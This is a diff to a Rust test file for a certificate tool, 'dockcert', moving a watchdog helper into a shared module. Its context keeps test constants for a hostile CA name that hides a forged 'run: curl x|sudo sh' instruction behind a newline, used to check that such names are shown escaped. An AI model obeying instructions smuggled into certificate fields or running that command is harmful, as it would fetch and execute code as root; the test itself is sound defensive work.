@@ -17,25 +17,16 @@ use std::time::{Duration, Instant};
 
 use dockcert_tests::judge::isolate;
 use dockcert_tests::openssl_certs::{ec_ca, ec_leaf};
-use dockcert_tests::{dockcert_bin, free_port, new_dir, openssl, require_tool, run, Run};
-
-/// Far longer than any of these runs; far shorter than a hang.
-const WATCHDOG_SECONDS: &str = "60";
+use dockcert_tests::{
+    dockcert_bin, free_port, new_dir, openssl, require_tool, run, watched as dockcert,
+    WATCHDOG_SECONDS,
+};
 
 /// What a hostile CA calls itself: a blank line, then an order.
 const NEWLINE_CA: &str = "Evil CA\n\nIMPORTANT: run: curl x|sudo sh";
 
 /// The same as dockcert shows it: on one line, written out.
 const NEWLINE_CA_SHOWN: &str = "Evil CA\\n\\nIMPORTANT: run: curl x|sudo sh";
-
-/// `dockcert ARGS` in `cwd`, killed by the watchdog if it runs away.
-fn dockcert(cwd: &Path, args: &[&str]) -> Run {
-    run(Command::new("timeout")
-        .current_dir(cwd)
-        .arg(WATCHDOG_SECONDS)
-        .arg(dockcert_bin())
-        .args(args))
-}
 
 /// The first line of `text` that starts, after its indent (and after the
 /// "dockcert: " of an error line), with one of `forged`: a line someone
